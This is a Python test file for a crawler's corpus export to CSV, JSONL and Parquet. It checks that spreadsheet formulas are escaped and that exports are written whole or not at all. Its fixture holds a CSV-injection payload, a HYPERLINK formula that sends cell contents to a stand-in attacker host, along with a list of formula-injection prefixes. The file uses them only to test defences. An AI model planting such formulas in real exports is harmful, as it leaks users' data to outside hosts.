"""Export: the rows of corpus, whole or not at all, safe in a spreadsheet."""

import csv
import json
import signal
import subprocess
import sys

import pyarrow.parquet as pq
import pytest
from documents import make_document, place_new
from hypothesis import given
from hypothesis import strategies as st

from welfare_crawl.errors import StoreError
from welfare_crawl.export import export_corpus, replaced, safe_cell
from welfare_crawl.records import Placement
from welfare_crawl.store import Filters, open_memory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def store():
    with open_memory() as store:
        first = store.save(place_new(make_document(title=FORMULA, tags=("an sinh", "nhà ở"))))
        store.save(place_new(make_document("https://b.vn/b-2.htm", 1, text='Dòng một,\n"hai"\x1b[31m', language="en")))
        store.save(Placement(make_document("https://c.vn/c-3.htm", 1, text="C"), "duplicate", duplicate_of=first))
        yield store


def test_csv_is_safe_and_whole(store, tmp_path):
    file = tmp_path / "x.csv"
    assert export_corpus(store, file, "csv") == 2
    assert file.read_bytes().startswith(b"\xef\xbb\xbf")
    with file.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert list(rows[0]) == store.corpus_columns()
    assert rows[0]["title"] == "'" + FORMULA
    assert rows[1]["text"] == 'Dòng một,\n"hai" [31m'
    assert [row["duplicate_of"] for row in rows] == ["", ""]


def test_jsonl_has_lists(store, tmp_path):
    file = tmp_path / "x.jsonl"
    assert export_corpus(store, file, "jsonl", Filters(language="vi")) == 1
    (row,) = [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines()]
    assert (row["title"], row["tags"], row["identifiers"]) == (FORMULA, ["an sinh", "nhà ở"], {})


def test_parquet_has_types(store, tmp_path):
    file = tmp_path / "x.parquet"
    assert export_corpus(store, file, "parquet") == 2
    table = pq.read_table(file)
    assert table.column("tags").to_pylist() == [["an sinh", "nhà ở"], []]
    assert table.column("word_count").type == "int64"
    assert table.column("similarity").null_count == 2
    assert table.column_names == store.corpus_columns()


@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_an_export_of_nothing_is_a_file(store, tmp_path, form):
    assert export_corpus(store, tmp_path / "x", form, Filters(language="sv")) == 0
    assert (tmp_path / "x").exists()


def test_a_failed_export_leaves_the_earlier_file(store, tmp_path):
    file = tmp_path / "x.jsonl"
    file.write_text("earlier")

    def rows(filters):
        yield {}

    class Broken:
        corpus_columns = store.corpus_columns
        corpus_rows = staticmethod(rows)

    with pytest.raises(KeyError):
        export_corpus(Broken(), file, "jsonl")  # type: ignore[arg-type]
    assert file.read_text() == "earlier"
    assert list(tmp_path.iterdir()) == [file]


def test_a_folder_that_is_not_there_gets_one_line(store, tmp_path):
    with pytest.raises(StoreError, match="can't write the export"):
        export_corpus(store, tmp_path / "no" / "x.csv", "csv")


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1", "\x00=1", "\x1b=1", "\ufeff=1"],
)
def test_formulas_are_held(cell):
    assert safe_cell(cell).startswith("'")


@given(st.text())
def test_no_cell_begins_a_formula(text):
    cell = safe_cell(text)
    assert not cell.strip().startswith(("=", "+", "-", "@"))
    assert "\x00" not in cell and "\x1b" not in cell


def test_numbers_stay_numbers():
    assert safe_cell(-0.5) == -0.5
    assert safe_cell(None) is None


def test_a_killed_export_leaves_nothing_under_its_name(tmp_path):
    file = tmp_path / "x.csv"
    code = (
        "import sys, os, signal; from pathlib import Path\n"
        "from welfare_crawl.export import replaced\n"
        "with replaced(Path(sys.argv[1])) as part:\n"
        "    part.write(b'half'); part.flush(); os.kill(os.getpid(), signal.SIGKILL)\n"
    )
    done = subprocess.run([sys.executable, "-c", code, str(file)], capture_output=True, check=False)
    assert done.returncode == -signal.SIGKILL
    assert not file.exists() and len(list(tmp_path.iterdir())) == 1
    with replaced(file) as part:
        part.write(b"whole")
    assert [each.name for each in tmp_path.iterdir()] == ["x.csv"]
